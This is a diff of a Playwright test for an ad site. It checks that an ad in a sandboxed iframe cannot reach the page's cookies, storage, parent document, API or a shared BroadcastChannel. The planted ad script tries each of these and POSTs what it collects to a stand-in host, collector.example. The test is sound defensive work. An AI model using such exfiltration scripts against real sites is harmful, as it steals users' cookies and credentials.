@@ -1,3 +1,4 @@
+import type { Page } from '@playwright/test'
 import { adOn, linkTo, setAd } from './ad-screen.ts'
 import { expect, test } from './fixtures.ts'
 import { rateScreen } from './rate-screen.ts'
@@ -11,6 +12,17 @@ const setSkipButton = (site: Site, buttonText: string, buttonUrl: string) =>
     `INSERT INTO skip_button (zone_name, button_text, button_url, is_active) VALUES ('Skip Button', $1, $2, true)`,
     [buttonText, buttonUrl],
   )
+
+/** What the page, and no frame in it, hears on a channel from its next load on. */
+const listenTo = async (page: Page, name: string) => {
+  await page.addInitScript((channel) => {
+    if (self !== top) return
+    const heard: unknown[] = []
+    new BroadcastChannel(channel).onmessage = ({ data }) => heard.push(data)
+    Object.assign(window, { heard })
+  }, name)
+  return () => page.evaluate((): unknown => Reflect.get(window, 'heard'))
+}
 
 test('an ad runs in its frame and reaches nothing of the site, even one that was saved to run in the page', async ({
   page,
@@ -36,13 +48,14 @@ test('an ad runs in its frame and reaches nothing of the site, even one that was
         await attempt('cookie', () => document.cookie)
         await attempt('parent', () => parent.document.title)
         await attempt('top', () => top.localStorage.length)
-        await attempt('channel', () => { new BroadcastChannel('x'); throw new TypeError('of its own origin') })
+        await attempt('channel', () => new BroadcastChannel('everybody').postMessage('from the ad'))
         await attempt('api', async () => (await fetch('${site.url}/api/ad-config/zone1')).text())
         await attempt('navigation', () => { top.location.href = 'https://elsewhere.example/' })
         await fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
       })()
     </script>`,
   )
+  const heard = await listenTo(page, 'everybody')
   await rateScreen(page).open()
   await adOn(page).scrollIntoViewIfNeeded()
   await expect(adOn(page).locator('iframe').contentFrame().getByText('Framed')).toBeVisible()
@@ -51,6 +64,11 @@ test('an ad runs in its frame and reaches nothing of the site, even one that was
   // So there is no login to be found either, whenever and wherever the operator logs in.
   for (const name of ['storage', 'cookie', 'parent', 'top']) expect(found[name], name).toBe('SecurityError')
   expect(found.api).toMatch(/Error$/)
+  expect(found.channel).toBe('reached undefined')
+  // Whoever listens to a channel hears in the order in which was posted.
+  await page.evaluate(() => new BroadcastChannel('everybody').postMessage('from the page'))
+  await expect.poll(heard).not.toEqual([])
+  expect(await heard()).toEqual(['from the page'])
   await expect(page).toHaveURL('/')
 })
 
